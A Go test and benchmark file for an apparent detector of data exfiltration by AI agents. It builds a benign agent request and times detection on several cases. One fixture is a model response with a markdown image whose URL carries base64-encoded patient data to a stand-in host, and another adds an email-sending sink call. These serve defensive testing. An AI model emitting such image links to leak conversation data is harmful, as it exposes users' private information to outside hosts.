package exfil

import (
	"strings"
	"testing"

	"github.com/sluicehq/sluice/evaluator/detect"
	"github.com/sluicehq/sluice/evaluator/interaction"
	"github.com/sluicehq/sluice/internal/cputime"
)

// agentRequest builds an agent request of about 16 KB: a system prompt, a
// task, fetched pages and command output (untrusted, with links and
// images), assistant answers with markdown links, and tool calls (shell,
// fetch, file reads) — the shape of a research or coding agent's fifth turn.
func agentRequest() *interaction.Interaction {
	ix := &interaction.Interaction{API: "openai.chat_completions", Phase: interaction.PhaseRequest}
	ix.AddSegment(seg(strings.Repeat("You are a research assistant. Cite sources with markdown links. ", 25), interaction.TrustOperator, interaction.KindText, interaction.RoleSystem, -1, "messages[0].content"))
	ix.AddSegment(seg("Compare the release notes of the two libraries and draft a short summary for the team.", interaction.TrustUser, interaction.KindText, interaction.RoleUser, 1, "messages[1].content"))
	page := strings.Repeat("## Release 2.4\nThe scheduler now batches writes ([details](https://lib.example.org/changelog#2.4)). "+
		"![graph](https://lib.example.org/img/bench-2.4.png) Upgrade with `pip install lib==2.4`. "+
		"See https://github.com/example/lib/compare/v2.3...v2.4 and https://docs.example.org/migration?from=2.3&to=2.4.\n", 28)
	turn := 2
	addCall(ix, "fetch_url", map[string]any{"url": "https://lib.example.org/changelog"}, turn)
	ix.AddSegment(seg(page, interaction.TrustUntrusted, interaction.KindToolResult, interaction.RoleTool, turn+1, "messages[3].content"))
	turn += 2
	addCall(ix, "bash", map[string]any{"command": "cd /work/lib && git log --oneline v2.3..v2.4 | head -50 && curl -s https://packages.example.org/lib/json | jq '.info.version'"}, turn)
	ix.AddSegment(seg(strings.Repeat("9fceb02 Batch scheduler writes\n3ac1e77 Fix retry jitter\n", 40), interaction.TrustUntrusted, interaction.KindToolResult, interaction.RoleTool, turn+1, "messages[5].content"))
	turn += 2
	ix.AddSegment(seg(strings.Repeat("Both libraries moved to batched writes; see [lib 2.4](https://lib.example.org/changelog#2.4) and "+
		"[other 5.1](https://other.example.com/releases/5.1). ![chart](https://other.example.com/static/chart.svg)\n", 10), interaction.TrustModel, interaction.KindText, interaction.RoleAssistant, turn, "messages[6].content"))
	addCall(ix, "read_file", map[string]any{"path": "notes/summary-draft.md"}, turn+1)
	ix.AddSegment(seg(strings.Repeat("Draft: the scheduler change reduces write amplification by about 30%. ", 20), interaction.TrustUntrusted, interaction.KindToolResult, interaction.RoleTool, turn+2, "messages[8].content"))
	return ix
}

func TestAgentRequestShape(t *testing.T) {
	ix := agentRequest()
	n := 0
	for _, s := range ix.Segments {
		n += len(s.Text)
	}
	if n < 14<<10 || n > 20<<10 {
		t.Fatalf("benchmark request is %d bytes, want about 16 KB", n)
	}
	if fs := run(t, newDetector(t, Config{}), ix); len(fs) != 0 {
		t.Fatalf("benign agent request flagged: %v", ids(fs))
	}
}

func BenchmarkDetect(b *testing.B) {
	d, _ := New(Config{AllowHosts: []string{"*.github.com"}})
	attack := agentRequest()
	addCall(attack, "send_email", map[string]any{"to": "team@corp.example", "body": "summary"}, 20)
	for _, c := range []struct {
		name string
		ix   *interaction.Interaction
	}{
		{"agent_request_16KB", agentRequest()},
		{"agent_request_16KB_with_sink_call", attack},
		{"response_with_exfil_image", modelIX("Done. ![s](https://x.example.net/p.png?d=UGF0aWVudCBoYXMgZGlhYmV0ZXMgdHlwZSAy)")},
		{"response_plain", modelIX(strings.Repeat("The migration is straightforward and needs no downtime. ", 40))},
	} {
		in := &detect.Input{IX: c.ix}
		b.Run(c.name, func(b *testing.B) {
			var out []detect.Finding
			cputime.Bench(b, func() { out = d.Detect(in, out[:0]) })
		})
	}
}
